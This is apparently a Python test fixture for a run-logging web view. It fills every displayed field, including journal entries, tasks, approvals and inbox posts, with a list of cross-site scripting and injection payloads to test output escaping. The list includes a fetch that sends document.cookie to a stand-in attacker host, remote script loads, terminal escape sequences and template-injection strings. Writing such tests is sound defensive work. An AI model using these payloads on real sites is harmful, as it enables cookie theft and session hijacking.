"""What an agent might write to reach past its own text, and a log that has it in everything that a page shows."""

from typing import Any

from decklog import Decklog

_CALL = "fetch('http://attacker.invalid/'+document.cookie)"
PAYLOADS = (
    # Elements
    f"<script>{_CALL}</script>",
    "<script src=//attacker.invalid/x.js></script>",
    "</script><script>alert(1)</script>",
    f"<img src=x onerror={_CALL}>",
    "<img src=//attacker.invalid/x.png>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src=//attacker.invalid></iframe>",
    "<object data=//attacker.invalid>",
    "<embed src=//attacker.invalid>",
    "<base href=//attacker.invalid/>",
    "<meta http-equiv=refresh content='0;url=//attacker.invalid'>",
    "<link rel=stylesheet href=//attacker.invalid>",
    "<style>@import '//attacker.invalid'</style>",
    "<form action=//attacker.invalid><input name=token></form>",
    "<video src=//attacker.invalid autoplay>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<body onload=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<math><mtext><script>alert(1)</script>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!-- --><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><x/>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</pre></code></li></ol></main><h1>Approved</h1>",
    "<xmp><script>alert(1)</script>",
    "<plaintext>",
    # Attributes
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "` onclick=alert(1)",
    '" style="background:url(//attacker.invalid)',
    '" autofocus onfocus="alert(1)',
    '"/><a href="javascript:alert(1)">x</a>',
    # Addresses
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "//attacker.invalid/x",
    "https://attacker.invalid/?x=<y>",
    "[click](javascript:alert(1))",
    "![x](http://attacker.invalid/x.png)",
    "vbscript:msgbox(1)",
    # What other libraries would obey
    "{{ 7 * 7 }}",
    "{% include 'base.html' %}",
    "${alert(1)}",
    "<div hx-get=/logout hx-trigger=load>",
    "<div data-copy=x data-live=page data-row>",
    "<div v-html=x @click=alert(1)>",
    "<li id=item data-tail=x id=tail>",
    "<a href=/logout data-key=a>Approve…</a>",
    # Characters
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\u202egnp.exe",
    "a\u200bb\u2060c",
    "\ufeffx",
    "\x1b]8;;http://attacker.invalid\x07x\x1b]8;;\x07",
    "\x1b]52;c;eA==\x07",
    "\x1b[2J\x1b[H",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003e",
)


def fill(log: Decklog, texts: tuple[str, ...], run_id: str = "r") -> None:
    """Write each text into everything that a page shows of a run."""
    untyped: Any = log
    first = texts[0]
    log.runs.start(first, run_id=run_id, repo=first, branch=first)
    for number, text in enumerate(texts):
        log.journal.append(run_id, text, kind="reasoning", subtype=text, agent=text)
        call = {"tool": text, "arguments": {"command": text}, "result": {"exit_code": 1, "said": text}}
        log.journal.append(run_id, kind="tool", subtype="run", agent=text, payload=call)
        log.journal.append(run_id, kind="event", payload={text: [text]})
        untyped.tasks.add(run_id, text, task_id=f"t{number:02}", objective=text, role=text)
        claim = untyped.tasks.claim(run_id, worker=text, task_id=f"t{number:02}")
        if number % 3 == 0 and claim is not None:
            claim.block(text)
        # A name has visible characters alone.
        who = text if text.isprintable() else "dev-1"
        log.approvals.ask(run_id, text, by=who, about={text: text} if number % 2 else text, approval_id=f"a{number:02}")
        untyped.inbox.post(who, text, severity="question", run_id=run_id)
    for text in texts[1:]:
        log.runs.start(text, repo=text)
    effect = log.effects.intend(run_id, first, first, key="k", actor="p", arguments={first: first})
    log.effects.doubt(effect.id, actor="p", note=first)
